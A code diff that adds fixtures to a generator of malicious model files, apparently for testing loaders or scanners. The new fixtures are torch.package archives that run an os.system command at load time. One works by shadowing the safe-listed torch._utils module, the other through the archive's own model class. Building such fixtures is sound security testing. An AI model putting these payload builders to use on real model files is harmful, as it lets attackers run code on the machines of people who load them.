@@ -345,6 +345,31 @@ def legacy_dtype_flags_int_call():
     return rt.MAGIC + rt.PROTO_V + rt.SYSINFO + numpy_dtype_flags_int_call() + rt.KEYS
 
 
+def _torch_package(files):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
+        for n, d in [("pkg/.data/version", b"6\n"), ("pkg/.data/extern_modules", b"os\n"),
+                     ("pkg/.data/python_version", b"3.11")] + files:
+            z.writestr(n, d)
+    return buf.getvalue()
+
+
+def torch_package_shadow():
+    # torch.package: PackageImporter resolves modules against the archive
+    # first, so the archive's own torch/_utils.py runs when the pickle
+    # names the safe-listed torch._utils._rebuild_tensor_v2.
+    src = b"import os\nos.system(%r)\ndef _rebuild_tensor_v2(*a):\n    return None\n" % CMD.encode()
+    return _torch_package([("pkg/torch/__init__.py", b""), ("pkg/torch/_utils.py", src),
+                           ("pkg/res/model.pkl", bytes(P(2).g("torch._utils", "_rebuild_tensor_v2").stop()))])
+
+
+def torch_package_model_code():
+    # the archive's own model module, run when the pickle names its class
+    src = b"import os\nos.system(%r)\nclass Net:\n    pass\n" % CMD.encode()
+    return _torch_package([("pkg/mymodel/__init__.py", b""), ("pkg/mymodel/net.py", src),
+                           ("pkg/res/model.pkl", bytes(P(2).g("mymodel.net", "Net").empty_tuple().op(0x81).stop()))])
+
+
 # ---- npy headers ------------------------------------------------------------
 
 def npy_descr_comma_string():
@@ -477,6 +502,8 @@ FIXTURES = [
     ("zip_dtype_mutated_after_array.pt", zip_dtype_mutated_after_array, "dtype-mutated-after-use", "torch.load", "crash"),
     ("zip_dtype_flags_int_call.pt", zip_dtype_flags_int_call, "computed-int-dtype-flags", "torch.load", "crash"),
     ("legacy_dtype_flags_int_call.pt", legacy_dtype_flags_int_call, "computed-int-dtype-flags", "torch.load", "crash"),
+    ("torch_package_shadow.pt", torch_package_shadow, "torch-package-shadowed-module", "torch.package", "runs"),
+    ("torch_package_model_code.pt", torch_package_model_code, "torch-package-code", "torch.package", "runs"),
     ("npy_descr_comma_string.npy", npy_descr_comma_string, "npy-descr-comma-list", "numpy.load", "runs"),
     ("npy_descr_list_of_str.npy", npy_descr_list_of_str, "npy-descr-unpacked-string", "numpy.load", "runs"),
     ("npy_descr_dict_keys.npy", npy_descr_dict_keys, "npy-descr-dict-keys", "numpy.load", "runs"),
@@ -526,6 +553,9 @@ try:
     elif loader == "torch.load+sum":
         import torch
         print([float(t.sum()) for t in torch.load(path).values()])
+    elif loader == "torch.package":
+        from torch.package import PackageImporter
+        PackageImporter(path).load_pickle("res", "model.pkl")
     elif loader == "numpy.load":
         import numpy
         numpy.load(path, allow_pickle=True)
